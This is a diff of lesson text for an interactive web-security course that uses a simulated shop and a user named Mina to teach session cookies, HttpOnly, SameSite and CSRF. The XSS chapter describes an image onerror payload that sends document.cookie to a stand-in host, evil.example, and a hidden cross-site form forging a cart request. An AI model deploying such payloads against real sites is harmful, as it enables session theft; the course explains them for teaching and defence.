@@ -44,11 +44,11 @@ export const courseEn = {
     },
     httponly: {
       title: 'HttpOnly keeps scripts out',
-      body: 'A script on the page runs document.cookie. The session cookie is <httponly>HttpOnly</httponly>, so the script sees nothing, even though the browser sends the cookie with every request. This is what stops an <xss>XSS</xss> attack from reading the session ID.',
+      body: 'A script on the page runs document.cookie. The session ID cookie is <httponly>HttpOnly</httponly>, so the script sees nothing, even though the browser sends the cookie with every request. This is what stops an <xss>XSS</xss> attack from reading the session ID.',
     },
     tamper: {
       title: 'Editing the cookie by hand',
-      body: 'Someone edits Safari’s cookie to a made-up ID. The server checks the <signature>signature</signature>, sees that it does not match, and treats the request as having no session: a fresh anonymous session, and for My page the red 401 “please log in”, the answer any stranger gets. The server does not crash or show an error page of its own, and the forged ID lets nobody in.',
+      body: 'Someone edits Safari’s cookie to a made-up ID. The server checks the <signature>signature</signature>, sees that it does not match, and treats the request as having no session: a fresh anonymous session, and for My page the red 401 “Please log in to see this page”, the answer any stranger gets. The server does not crash or show an error page of its own, and the forged ID lets nobody in.',
     },
     stolen: {
       title: 'A stolen cookie is as good as a login',
@@ -134,8 +134,8 @@ export const courseEn = {
       body: 'You have seen express-session at work. The server’s options are shown as code under the guest book (express-session options). Other stacks use other names for the same thing: Java’s <jsessionid>JSESSIONID</jsessionid> (HttpSession), PHP’s PHPSESSID, and Laravel’s sessions table, whose columns this guest book borrows. Flask is different by default: its session is a signed cookie that carries the data itself, with no row on the server.',
     },
     'cross-site-login': {
-      title: 'Mina logs in; her cookie says nothing about other sites',
-      body: 'The shop is back on express-session with its default cookie options: no SameSite. Mina logs in in Chrome and gets a fresh <cookie>session cookie</cookie>. Look at it in DevTools (Application → Cookies): its SameSite column is empty. What a browser does with such a cookie when another site starts the request is what this chapter is about.',
+      title: 'Mina logs in: a cookie with no SameSite',
+      body: 'The shop’s cookie is back to its usual options: HttpOnly, expiring in 30 minutes, and no SameSite set. Mina logs in in Chrome and gets a fresh <cookie>session ID cookie</cookie>. Look at it in DevTools (Application → Cookies): its SameSite column is empty. What a browser does with such a cookie when another site starts the request is what this chapter is about.',
     },
     'cross-site-evil': {
       title: 'Another site, in the same browser',
@@ -146,7 +146,7 @@ export const courseEn = {
       body: 'Mina clicks Claim. The page had a hidden form whose action is https://shop.example/cart: Chrome POSTs it there and shows the shop’s answer. This time her cookie goes along. Chrome makes one exception for cookies without SameSite: for two minutes after the cookie was set, a top-level POST from another site may still carry it (“Lax+POST”, kept so that some sign-in flows did not break). Mina logged in moments ago, so the forged request carries her session and the shop puts a gift card into her cart. She never asked for it. This is cross-site request forgery, CSRF.',
     },
     'cross-site-later': {
-      title: 'Five minutes later, the window has closed',
+      title: 'Five minutes later, the two-minute grace is over',
       body: 'Five simulated minutes later Mina goes back to evil.example and clicks Claim again. Her cookie is now more than two minutes old, so Chrome treats it as plain Lax: no cookie on a POST from another site (the wire says why). The shop sees a stranger, starts a new session and puts the gift card into that empty cart; Mina’s own cart is untouched. But look at the jar: the answer came to a top-level navigation, which may set cookies, so the stranger’s session cookie replaced Mina’s. Even a failed forgery logged her out.',
       beat1:
         'Mina opens evil.example again. Her cookie is plain Lax now, so the image asks for My page without it: 401.',
@@ -185,7 +185,7 @@ export const courseEn = {
     },
     'cookie-store-read': {
       title: 'Signed is not hidden',
-      body: 'The value looks scrambled, but it is only base64, an encoding anyone can undo: eyJ is how {" begins. Decode it and you read {"cart":["apple"],"userId":152}. Some notes say the secret key “encrypts” the session. It does not: it signs. The signature proves the server wrote these bytes; it hides nothing. Never put a password or anything private in such a cookie.',
+      body: 'The value looks scrambled, but it is only base64, an encoding anyone can undo: eyJ is what {" turns into. Decode it and you read {"cart":["apple"],"userId":152}. Some notes say the secret key “encrypts” the session. It does not: it signs. The signature proves the server wrote these bytes; it hides nothing. Never put a password or anything private in such a cookie.',
     },
     'cookie-store-tamper': {
       title: 'Edit the cookie, and the signature refuses it',
@@ -241,7 +241,7 @@ export const courseEn = {
     },
     'stateless-again': {
       title: 'Every request is a stranger',
-      body: 'Safari opens the home page again, a moment later. Without a <cookie>cookie</cookie>, nothing in the request says it came from the same browser: the server starts yet another session and writes yet another row. This is what <stateless>stateless</stateless> means: HTTP itself remembers nothing between two requests. The cookie is what carries the memory.',
+      body: 'Safari opens the home page again. Without a <cookie>cookie</cookie>, nothing in the request says it came from the same browser: the server starts yet another session and writes yet another row. This is what <stateless>stateless</stateless> means: HTTP itself remembers nothing between two requests. The cookie is what carries the memory.',
     },
     'stateless-login': {
       title: 'A login that cannot stick',
@@ -295,7 +295,7 @@ export const courseEn = {
     },
     'kinds-idle': {
       title: 'Idle time ends the login session',
-      body: 'The shop now gives the cookie a Max-Age of 30 minutes, renewed with every response, and Mina logs in again. She leaves the tab open and comes back 31 minutes later. The browser session never ended, but the login session did: 30 minutes without a request is the <idle>idle timeout</idle>. The cookie has expired in the jar and the session in the store, so My page answers 401.',
+      body: 'The shop now sets cookie.maxAge to 30 minutes, counted from the start again on every response, and Mina logs in again. She leaves the tab open and comes back 31 minutes later. The browser session never ended, but the login session did: 30 minutes without a request is the <idle>idle timeout</idle>. The cookie has expired in the jar and the session in the store, so My page answers 401.',
       beat1:
         'Mina logs in again. This time the Set-Cookie has an Expires 30 minutes ahead, pushed back with every answer.',
       beat2:
@@ -303,15 +303,15 @@ export const courseEn = {
     },
     'xss-reviews': {
       title: 'A page that shows what visitors write',
-      body: 'The shop has reviews now: anyone may write one, and the review page lists them all. A visitor in Firefox gives five stars and writes the score, 5/5, inside bold markup, and it shows in bold: the shop writes what visitors type straight into its HTML, so their markup becomes part of the page. Mina is logged in on Chrome. In this chapter the shop’s session cookie has no HttpOnly.',
+      body: 'The shop has reviews now: anyone may write one, and the review page lists them all. A visitor in Firefox gives five stars and writes the score, 5/5, inside bold markup, and it shows in bold: the shop writes what visitors type straight into its HTML, so their markup becomes part of the page. Mina is logged in on Chrome. In this chapter the shop’s session ID cookie has no HttpOnly.',
       beat1:
-        'Mina logs in on Chrome. Look at the Set-Cookie line: her session cookie has no HttpOnly.',
+        'Mina logs in on Chrome. Look at the Set-Cookie line: her session ID cookie has no HttpOnly.',
       beat2:
         'The visitor in Firefox posts a review with bold markup. The shop writes it into the page as it is, so it shows in bold.',
     },
     'xss-payload': {
       title: 'A review that is code',
-      body: "Now the visitor writes a review that is not a review: an image whose address (x) does not exist, with an onerror attribute. When the image fails to load, the browser runs onerror: fetch('https://evil.example/?c='+document.cookie) sends whatever document.cookie can see to evil.example. The shop stores it like any review. The visitor’s own browser shows the page first, so evil.example already has one request: that visitor’s own cookie, worth nothing to them. No code runs here: the simulator reads the markup and works out what a browser would do.",
+      body: "Now the visitor writes code posing as a review: an image whose address is x, which cannot load, with an onerror attribute. When the image fails to load, the browser runs onerror: fetch('https://evil.example/?c='+document.cookie) sends whatever document.cookie can see to evil.example. The shop stores it like any review. The visitor’s own browser shows the page first, so evil.example already has one request: that visitor’s own cookie, worth nothing to them. No code runs here: the simulator reads the markup and works out what a browser would do.",
     },
     'xss-victim': {
       title: 'Mina opens the reviews',
@@ -323,7 +323,7 @@ export const courseEn = {
     },
     'xss-httponly': {
       title: 'HttpOnly stops the theft',
-      body: 'The session cookie gets <httponly>HttpOnly</httponly> back (express-session’s cookie.httpOnly, on by default). A session keeps the cookie it was made with, so Mina logs in again and gets a new one. She opens the reviews: the script still runs and still calls evil.example, but document.cookie no longer holds connect.sid. The theft is stopped, the injection is not: the script still runs on Mina’s page.',
+      body: 'The session ID cookie gets <httponly>HttpOnly</httponly> back (express-session’s cookie.httpOnly, on by default). A session keeps the cookie it was made with, so Mina logs in again and gets a new one. She opens the reviews: the script still runs and still calls evil.example, but document.cookie no longer holds connect.sid. The theft is stopped, the injection is not: the script still runs on Mina’s page.',
       beat1: 'Mina logs in again and gets a new session; its Set-Cookie now ends in HttpOnly.',
       beat2:
         'She opens the reviews. The script runs and calls evil.example, but document.cookie is empty: the log shows c= and nothing after it.',
